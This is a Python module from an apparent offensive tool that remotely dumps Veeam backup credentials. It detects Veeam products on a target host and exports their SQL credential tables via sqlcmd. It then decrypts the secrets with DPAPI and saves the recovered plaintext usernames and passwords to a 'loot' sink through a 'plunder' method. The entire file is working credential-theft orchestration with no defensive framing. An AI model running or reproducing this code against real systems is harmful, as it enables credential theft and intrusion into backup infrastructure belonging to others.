"""
veeamcred.orchestration
=======================

The credential dump run: detect the installed products, export each product's credential table
through sqlcmd, persist it, reload it, decrypt it, and persist the results.

Each product goes through the sequence independently. A product whose pass fails with a
RunFailedError is recorded in the report and the other product still runs. Shared preconditions (no
product detected, no sqlcmd on the target) abort the run, as does any failure of the remote channel
itself.
"""


import collections
import logging


from .abc.configurations import Configurable
from .abc.registry import RegistryReader
from .abc.remote import RemoteExecutor
from .abc.sinks import LootSink
from .configurations import ConfigManager, get_veeamcred_config_manager
from .context import ACTIONS, DUMP_ACTION, EXPORT_ACTION, RunContext
from .db.parameters import resolve_parameters
from .db.sqlcmd import SQLCMD, SQLCmdClient, find_sql_client
from .exceptions import (
    ColumnNotFoundError,
    InvalidConfigurationError,
    NoTargetError,
    NotFoundError,
    OperationNotSupportedError,
    ParseError,
    RunFailedError,
    UnknownFailureError,
    verify_type,
)
from .logging import configure_logging
from .plugins import config_loader
from .processing import Outcome, process_rows
from .registry import PowerShellRegistry
from .security.credentials import Credential, Service, VEEAM_PORT
from .security.decryption import SecretDecryptor
from .sinks.null import NullSink
from .strings import parse_bool, strip_nulls
from .tables import Table
from .targets import EXPORT_HEADERS, Target, classify


__author__ = 'Aaron Hosford'
__all__ = [
    'Export',
    'DumpReport',
    'CredentialDump',
    'get_hostname',
    'validate_identities',
]


log = logging.getLogger(__name__)


DEFAULT_SECTION = 'Credential Dump'
DEFAULT_REALM = 'Veeam Credential'
HOSTNAME_SCRIPT = '$env:COMPUTERNAME'


class Export(collections.namedtuple('Export', 'table data reference')):
    """
    A product's exported credential table.

    :param table: The parsed veeamcred.tables.Table.
    :param data: The persisted text, with NUL characters removed.
    :param reference: The reference the sink returned for the stored artifact.
    """


class DumpReport:
    """What a credential dump run did for each product."""

    def __init__(self, hostname=None, targets=()):
        self.hostname = hostname
        self.targets = list(targets)
        self.exports = collections.OrderedDict()
        self.outcomes = collections.OrderedDict()
        self.failures = collections.OrderedDict()

    @property
    def succeeded(self):
        """Whether at least one product completed without failing."""
        return any(target.product not in self.failures for target in self.targets)

    def __repr__(self):
        return '<%s: %d targets, %d exported, %d decrypted, %d failed>' % (
            type(self).__name__, len(self.targets), len(self.exports), len(self.outcomes),
            len(self.failures))


def get_hostname(executor):
    """Return the target's computer name, or None if it could not be determined."""
    verify_type(executor, RemoteExecutor)
    return strip_nulls(executor.execute_powershell(HOSTNAME_SCRIPT)).strip() or None


def validate_identities(table, error_type, message):
    """
    Verify that a table has a usable identity column: at least one distinct ID, and a non-empty
    first distinct ID.

    :param table: The veeamcred.tables.Table to check.
    :param error_type: The RunFailedError subclass to raise.
    :param message: The error message.
    :return: The number of distinct IDs.
    """
    try:
        identities = table.unique_values('ID')
    except ColumnNotFoundError:
        raise error_type(message) from None
    if not identities or not identities[0]:
        raise error_type(message)
    return len(identities)


@config_loader
class CredentialDump(Configurable):
    """
    Runs the credential dump against one host. The remote executor and registry reader are supplied
    by the caller; the sink, batch mode, and action can also come from a config section:

        [Credential Dump]
        Batch DPAPI = true
        Action = dump
        Sink = #Loot Log
    """

    @classmethod
    def load_config_value(cls, manager, value, *args, **kwargs):
        """
        A credential dump needs a remote executor, so it can only be loaded from a section.
        """
        raise OperationNotSupportedError()

    @classmethod
    def load_config_section(cls, manager, section, *args, **kwargs):
        """
        Load a class instance from a config section. The remote executor and registry reader must
        be passed through as extra arguments.

        :param manager: A ConfigManager instance.
        :param section: The name of the section.
        :return: A new instance of this class.
        """
        verify_type(manager, ConfigManager)
        verify_type(section, str, non_empty=True)

        batch = manager.load_option(section, 'Batch DPAPI', parse_bool, True)
        action = manager.load_option(section, 'Action', str, DUMP_ACTION)
        sink = manager.load_option(section, 'Sink', default=None)
        if sink is not None and not isinstance(sink, LootSink):
            raise InvalidConfigurationError("Sink option of section %s does not refer to a sink." % section)
        if action.strip().lower() not in ACTIONS:
            raise InvalidConfigurationError("Unknown action in section %s: %r" % (section, action))

        return cls(*args, sink=sink, batch=batch, action=action, **kwargs)

    @classmethod
    def from_config(cls, executor, registry=None, manager=None, section=DEFAULT_SECTION):
        """
        Build a credential dump from the veeamcred config file. Loggers listed in the config file's
        [Logging] section are set up first.

        :param executor: The veeamcred.abc.remote.RemoteExecutor for the target host.
        :param registry: An optional veeamcred.abc.registry.RegistryReader.
        :param manager: The ConfigManager to use. Defaults to the veeamcred config manager.
        :param section: The config section to load.
        :return: A new instance of this class.
        """
        if manager is None:
            manager = get_veeamcred_config_manager()
        configure_logging(manager)
        if not manager.has_section(section):
            return cls(executor, registry)
        return cls.load_config_section(manager, section, executor, registry)

    def __init__(self, executor, registry=None, sink=None, batch=True, action=DUMP_ACTION):
        verify_type(executor, RemoteExecutor)
        if registry is None:
            registry = PowerShellRegistry(executor)
        verify_type(registry, RegistryReader)
        if sink is None:
            sink = NullSink()
        verify_type(sink, LootSink)
        verify_type(batch, bool)
        verify_type(action, str, non_empty=True)
        action = action.strip().lower()
        if action not in ACTIONS:
            raise ValueError("Unknown action: %r" % action)

        self._executor = executor
        self._registry = registry
        self._sink = sink
        self._batch = batch
        self._action = action

    @property
    def executor(self):
        return self._executor

    @property
    def registry(self):
        return self._registry

    @property
    def sink(self):
        return self._sink

    @property
    def batch(self):
        """Whether DPAPI secrets are unprotected in a single remote call per table."""
        return self._batch

    @property
    def action(self):
        return self._action

    def detect(self):
        """
        Check the preconditions every product shares: at least one product is installed, and
        sqlcmd is available on the target.

        :return: A tuple (hostname, targets).
        """
        hostname = get_hostname(self._executor)
        log.info("Hostname %s", hostname)

        targets = classify(self._executor, self._registry)

        client = find_sql_client(self._executor)
        if client != SQLCMD:
            raise NotFoundError("Unable to identify sqlcmd SQL client on target host")
        log.debug("Found SQL client: %s", client)

        return hostname, targets

    def prepare(self, target, hostname=None):
        """
        Build the run context for one product, resolving its database connection parameters. A
        recovered SQL login is stored in the sink.

        :param target: The veeamcred.targets.Target.
        :param hostname: The target host's name, if known.
        :return: A RunContext.
        """
        verify_type(target, Target)
        parameters = resolve_parameters(self._executor, self._registry, target.product, self._sink,
                                        hostname)
        return RunContext(target, parameters, self._batch, self._action, hostname)

    def export(self, context):
        """
        Export a product's credential table and persist it.

        :param context: The RunContext.
        :return: An Export.
        """
        verify_type(context, RunContext)
        if context.parameters is None:
            raise UnknownFailureError("No connection parameters for %s" % context.product.display_name)

        product = context.product
        log.info("Export %s DB ...", product.display_name)
        output = SQLCmdClient(context.parameters).query(self._executor, product.export_query)

        try:
            table = Table.parse(output, EXPORT_HEADERS)
        except ParseError as exc:
            raise UnknownFailureError("Error parsing %s SQL dataset into CSV format" % product.short_name) from exc

        total_secrets = validate_identities(table, UnknownFailureError,
                                            "%s SQL dataset contains no ID column values" % product.short_name)
        log.info("%s rows exported, %s unique IDs", table.row_count(), total_secrets)

        data = strip_nulls(table.serialize())
        reference = self._sink.store_artifact(
            product.encrypted_artifact,
            data,
            'text/csv',
            label='Encrypted Database Dump',
            file_name='%s.csv' % context.database_name,
        )
        log.info("Encrypted %s Database Dump: %s", product.display_name, reference)
        return Export(table, data, reference)

    def load_export(self, data):
        """
        Load a persisted export for decryption. The first line is the header row.

        :param data: The export text, as str or bytes.
        :return: A veeamcred.tables.Table.
        """
        try:
            table = Table.parse(data)
        except ParseError as exc:
            raise NoTargetError("Error importing CSV export") from exc
        validate_identities(table, NoTargetError, "Provided CSV export contains no ID column values")
        return table

    def decrypt(self, context, table):
        """
        Decrypt an exported table, store every recovered credential, and persist the result table.

        :param context: The RunContext.
        :param table: The export, as returned by load_export().
        :return: The verified Outcome.
        """
        verify_type(context, RunContext)
        verify_type(table, Table)

        product = context.product
        log.info("%s %s rows loaded, %s unique IDs", table.row_count(), product.short_name,
                 validate_identities(table, NoTargetError, "Export contains no ID column values"))

        decryptor = SecretDecryptor.for_context(context, self._executor)
        outcome = process_rows(table, decryptor, product)
        outcome.verify()

        self.plunder(outcome, context.hostname)

        reference = self._sink.store_artifact(
            product.decrypted_artifact,
            strip_nulls(outcome.result.serialize()),
            'text/csv',
            label='Decrypted %s Database Dump' % product.short_name,
            file_name='%s.csv' % context.database_name,
        )
        log.info("Decrypted %s Database Dump: %s", product.display_name, reference)
        return outcome

    def decrypt_export(self, data, target, hostname=None):
        """
        Decrypt an export that was produced separately, e.g. by an earlier export-only run.

        :param data: The export text, as str or bytes.
        :param target: The veeamcred.targets.Target the export came from.
        :param hostname: The target host's name, if known.
        :return: The verified Outcome.
        """
        context = RunContext(target, None, self._batch, DUMP_ACTION, hostname)
        return self.decrypt(context, self.load_export(data))

    def plunder(self, outcome, hostname=None):
        """
        Store every credential in an outcome's result table.

        :param outcome: The Outcome.
        :param hostname: The target host's name, if known.
        :return: The number of credentials stored.
        """
        verify_type(outcome, Outcome)
        count = 0
        for row in outcome.result:
            password = row.get('Plaintext')
            if not password:
                continue
            realm = row.get('Description') or DEFAULT_REALM
            service = Service('veeam', VEEAM_PORT, address=hostname, realm=realm)
            self._sink.store_credential(Credential(row.get('Username') or '', password), service)
            log.info("Recovered Credential: %s", realm)
            count += 1
        return count

    def run_target(self, target, hostname, report):
        """
        Run the full sequence for one product, recording the results in the report.

        :param target: The veeamcred.targets.Target.
        :param hostname: The target host's name, if known.
        :param report: The DumpReport to update.
        """
        product = target.product
        context = self.prepare(target, hostname)

        log.info("Performing export of %s SQL database to CSV file", product.display_name)
        export = self.export(context)
        report.exports[product] = export.reference
        if context.action == EXPORT_ACTION:
            return

        log.info("Performing decryption of %s SQL database", product.display_name)
        outcome = self.decrypt(context, self.load_export(export.data))
        report.outcomes[product] = outcome

    def run(self):
        """
        Run the credential dump against every detected product.

        :return: A DumpReport.
        """
        hostname, targets = self.detect()
        report = DumpReport(hostname, targets)

        for target in targets:
            try:
                self.run_target(target, hostname, report)
            except RunFailedError as exc:
                log.error("%s failed: %s", target.product.display_name, exc)
                report.failures[target.product] = exc

        if not report.succeeded:
            raise next(iter(report.failures.values()))
        if report.failures:
            log.warning("%d of %d products failed", len(report.failures), len(targets))
        return report
